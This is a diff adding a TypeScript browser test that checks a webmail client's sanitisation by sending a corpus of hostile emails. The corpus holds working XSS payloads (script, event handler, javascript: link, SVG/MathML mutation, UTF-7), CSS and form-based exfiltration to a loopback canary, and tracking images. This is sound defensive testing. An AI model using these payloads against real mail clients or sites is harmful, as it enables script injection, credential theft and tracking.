@@ -1,0 +1,249 @@
+/**
+ * ATTACKS.md WB-01, WB-02, WB-03, WB-08 in a real browser: a corpus of hostile HTML and plain-text
+ * mails is delivered over SMTP and opened one by one in the webmail in Chromium. Every payload
+ * aims at a canary web server on loopback (scripts, event handlers, `javascript:` links, SVG and
+ * MathML tricks, CSS imports and backgrounds, forms, meta refresh, frames, remote images, UTF-7).
+ * Nothing may run (no dialog), nothing may reach the canary or any other host, and neither the page
+ * nor a message frame may navigate. Remote images stay blocked until the user allows them; then,
+ * and only then, the canary sees the image request.
+ */
+import assert from 'node:assert/strict';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { after, before, describe, test } from 'node:test';
+import nodemailer from 'nodemailer';
+import type { Page } from 'playwright-core';
+import { launchBrowser, noBrowser, screenshotPath } from '../helpers/browser.ts';
+import { makeDataDir, type RunningServer, startServer } from '../helpers/server.ts';
+
+const VICTIM = { address: 'vic@example.test', password: 'vic-password-1' };
+
+/** A 1×1 transparent PNG. */
+const PIXEL = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
+  'base64',
+);
+
+/** The hostile messages: subject, Content-Type and body. `C` is the canary's base URL. */
+const corpus = (C: string): { subject: string; type: string; body: string }[] => {
+  const svgScript = Buffer.from(
+    `<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>alert('svg-use');fetch('${C}/svg-use')</script></svg>`,
+  ).toString('base64');
+  const html = 'text/html; charset=utf-8';
+  return [
+    {
+      subject: 'script',
+      type: html,
+      body: `<p>hello</p><script>alert('script');fetch('${C}/script')</script>`,
+    },
+    {
+      subject: 'event handlers',
+      type: html,
+      body: `<img src=x onerror="alert('onerror');new Image().src='${C}/onerror'"><body onload="alert('onload')"><div onmouseover="alert('mouse')">hover me</div><p onclick="alert('click')">click me</p>`,
+    },
+    {
+      subject: 'details ontoggle',
+      type: html,
+      body: `<details open ontoggle="alert('ontoggle');fetch('${C}/toggle')"><summary>s</summary>x</details>`,
+    },
+    {
+      subject: 'javascript links',
+      type: html,
+      body: `<a href="javascript:alert('js1')">one</a> <a href=" JaVaScRiPt:alert('js2')">two</a> <a href="jav&#x09;ascript:alert('js3')">three</a> <a href="data:text/html,<script>alert('data')</script>">four</a> <map name=m><area shape=rect coords=0,0,50,50 href="javascript:alert('area')"></map><img usemap=#m src="data:image/png;base64,${PIXEL.toString('base64')}" width=50 height=50>`,
+    },
+    {
+      subject: 'svg tricks',
+      type: html,
+      body: `<svg onload="alert('svg-onload')"><use href="data:image/svg+xml;base64,${svgScript}#x"></use><animate attributeName="href" values="javascript:alert('animate')"/><a><text x=10 y=10>svg link</text></a><set attributeName="onmouseover" to="alert('set')"/></svg>`,
+    },
+    {
+      subject: 'namespace confusion',
+      type: html,
+      body: `<svg><style><//><body onload="alert('mxss1')"></style></svg><math><mtext><table><mglyph><style><img src=x onerror="alert('mxss2')"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert('mxss3')>">`,
+    },
+    {
+      subject: 'css exfiltration',
+      type: html,
+      body: `<style>@import url(${C}/import.css); p{background:url(${C}/style-tag)}</style><link rel=stylesheet href="${C}/link.css"><div style="background-image:url(${C}/inline-style)">styled</div><p style="color:red;background:url('${C}/inline2')">red</p><input value="secret" style="background:url(${C}/input)">`,
+    },
+    {
+      subject: 'forms and frames',
+      type: html,
+      body: `<form action="${C}/form" method=post><input name=password value=hunter2><button>Log in again</button></form><iframe src="${C}/iframe"></iframe><object data="${C}/object"></object><embed src="${C}/embed"><base href="${C}/base/"><a href="relative">rel</a>`,
+    },
+    {
+      subject: 'meta refresh',
+      type: html,
+      body: `<html><head><meta http-equiv="refresh" content="0;url=${C}/meta"></head><body>wait</body></html>`,
+    },
+    {
+      subject: 'remote images everywhere',
+      type: html,
+      body: `<img srcset="${C}/srcset 2x"><table background="${C}/table-bg"><tr><td background="${C}/td-bg">cell</td></tr></table><video poster="${C}/poster"></video><input type=image src="${C}/input-image"><picture><source srcset="${C}/source"></picture><img src="//127.0.0.1/protocol-relative">`,
+    },
+    {
+      subject: 'utf-7',
+      type: 'text/html; charset=utf-7',
+      body: `+ADw-script+AD4-alert('utf7')+ADw-/script+AD4- +ADw-img src=x onerror=alert('utf7img')+AD4-`,
+    },
+    {
+      subject: 'plain text',
+      type: 'text/plain; charset=utf-8',
+      body: `[1]: javascript:alert('md')\nhttp://x.test/?"onmouseover="alert('quote')\n<script>alert('plain')</script>\n<img src=${C}/plain-img>`,
+    },
+  ];
+};
+
+describe('webmail XSS corpus in Chromium (WB-01, WB-02, WB-08)', { skip: noBrowser() ?? false }, () => {
+  let data: { path: string; remove(): void };
+  let server: RunningServer;
+  let canary: Server;
+  let C: string;
+  let base: string;
+  const hits: string[] = [];
+  let browser: { close(): Promise<void> } | null = null;
+
+  before(async () => {
+    canary = createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.writeHead(200, { 'Content-Type': 'image/png', 'Cache-Control': 'no-store' });
+      res.end(PIXEL);
+    });
+    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
+    C = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
+    data = makeDataDir({ domains: ['example.test'], users: [VICTIM] });
+    server = await startServer(data.path, ['http=127.0.0.1:0', 'smtp=127.0.0.1:0']);
+    base = `http://127.0.0.1:${server.ports['http']}`;
+    const smtp = nodemailer.createTransport({
+      host: '127.0.0.1',
+      port: server.ports['smtp'],
+      secure: false,
+      ignoreTLS: true,
+    });
+    const send = (subject: string, type: string, body: string) =>
+      smtp.sendMail({
+        envelope: { from: 'mallory@evil.test', to: [VICTIM.address] },
+        raw: `From: Mallory <mallory@evil.test>\r\nTo: ${VICTIM.address}\r\nSubject: ${subject}\r\nContent-Type: ${type}\r\n\r\n${body.replace(/\n/g, '\r\n')}\r\n`,
+      });
+    await send(
+      'remote pixel',
+      'text/html; charset=utf-8',
+      `<p>Look at our offer</p><img src="${C}/pixel.png" alt="offer">`,
+    );
+    for (const m of corpus(C)) await send(m.subject, m.type, m.body);
+    // An SVG and an HTML attachment: offered for download only, never previewed (WB-03).
+    await smtp.sendMail({
+      envelope: { from: 'mallory@evil.test', to: [VICTIM.address] },
+      from: 'mallory@evil.test',
+      to: VICTIM.address,
+      subject: 'attachments',
+      text: 'see attached',
+      attachments: [
+        {
+          filename: 'chart.svg',
+          contentType: 'image/svg+xml',
+          content: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg-file')"/>`,
+        },
+        { filename: 'page.html', contentType: 'text/html', content: `<script>alert('html-file')</script>` },
+      ],
+    });
+    smtp.close();
+  });
+  after(async () => {
+    await browser?.close();
+    await server?.stop();
+    data?.remove();
+    canary?.close();
+  });
+
+  /** Opens the webmail signed in, recording dialogs, requests off our origin and navigations. */
+  const session = async () => {
+    const b = await launchBrowser();
+    browser = b;
+    const page = b.context.pages()[0] ?? (await b.context.newPage());
+    const dialogs: string[] = [];
+    const foreign: string[] = [];
+    const navigations: string[] = [];
+    page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      void d.dismiss();
+    });
+    b.context.on('request', (r) => {
+      const url = r.url();
+      if (!url.startsWith(`${base}/`) && !/^(data|blob|about):/.test(url)) foreign.push(url);
+    });
+    b.context.on('page', (p) => navigations.push(`new page: ${p.url()}`));
+    page.on('framenavigated', (f) => {
+      const url = f.url();
+      if (f === page.mainFrame() ? !url.startsWith(`${base}/`) : url !== 'about:srcdoc')
+        navigations.push(url);
+    });
+    await page.goto(`${base}/`);
+    await page.getByLabel('E-mail address').fill(VICTIM.address);
+    await page.getByLabel('Password').fill(VICTIM.password);
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await page.locator('.toolbar h1', { hasText: 'Inbox' }).waitFor();
+    return { page, dialogs, foreign, navigations };
+  };
+
+  /** Opens the message with this subject and pokes at its body. */
+  const read = async (page: Page, subject: string) => {
+    await page.locator('.row .subject', { hasText: new RegExp(`(^|\\s)${subject}$`) }).click();
+    await page.locator('.reader h2', { hasText: subject }).waitFor();
+    const frame = page.locator('iframe.body').last();
+    await frame.waitFor();
+    assert.equal(await frame.getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox');
+    const inner = page.frameLocator('iframe.body').last();
+    await inner.locator('html').hover({ force: true });
+    // Every element a payload could hang a handler or a link on, except real web links (which
+    // would rightly open a new tab).
+    for (const el of await inner.locator('a:not([href^="http"]), area, p, div, summary, td').all())
+      await el.click({ timeout: 1000 }).catch(() => {});
+    await page.waitForTimeout(300);
+  };
+
+  test('no payload runs, reaches another host or navigates; attachments are not previewed', async () => {
+    const { page, dialogs, foreign, navigations } = await session();
+    for (const m of corpus(C)) await read(page, m.subject);
+    await read(page, 'attachments');
+    assert.equal(await page.locator('img.preview').count(), 0, 'an SVG attachment was previewed');
+    const svg = page.getByRole('link', { name: 'chart.svg' });
+    assert.match((await svg.getAttribute('href')) ?? '', /type=image%2Fsvg%2Bxml/);
+    // Served as a download of inert type, whatever the link asks for.
+    const download = await page.request.get(`${base}${await svg.getAttribute('href')}`);
+    assert.equal(download.headers()['content-type'], 'application/octet-stream');
+    assert.match(download.headers()['content-disposition'] ?? '', /^attachment/);
+    await page.screenshot({ path: screenshotPath('xss-corpus') });
+    await page.waitForTimeout(500);
+    assert.deepEqual(dialogs, [], 'a dialog opened');
+    assert.deepEqual(hits, [], 'the canary was reached');
+    assert.deepEqual(foreign, [], 'a request left for another host');
+    assert.deepEqual(navigations, [], 'something navigated');
+  });
+
+  test('remote images stay blocked until allowed, for the message or the sender', async () => {
+    hits.length = 0;
+    const { page, foreign } = await session();
+    await read(page, 'remote pixel');
+    const banner = page.getByRole('status').filter({ hasText: 'remote image' });
+    await banner.waitFor();
+    await page.waitForTimeout(500);
+    assert.deepEqual([...hits], []);
+    assert.deepEqual([...foreign], []);
+    await page.screenshot({ path: screenshotPath('remote-images-blocked') });
+    await banner.getByRole('button', { name: 'Show images' }).click();
+    const deadline = Date.now() + 10_000;
+    while (!hits.includes('/pixel.png') && Date.now() < deadline) await page.waitForTimeout(100);
+    assert.deepEqual(hits, ['/pixel.png']);
+    assert.deepEqual(foreign, [`${C}/pixel.png`]);
+
+    // Another message: blocked again; "always for this sender" is remembered in this browser.
+    await read(page, 'script');
+    await read(page, 'remote pixel');
+    await page.getByRole('button', { name: /Always show from mallory@evil\.test/ }).click();
+    while (hits.length < 2 && Date.now() < deadline + 10_000) await page.waitForTimeout(100);
+    await read(page, 'plain text');
+    await read(page, 'remote pixel');
+    assert.equal(await page.getByRole('button', { name: 'Show images' }).count(), 0);
+  });
+});
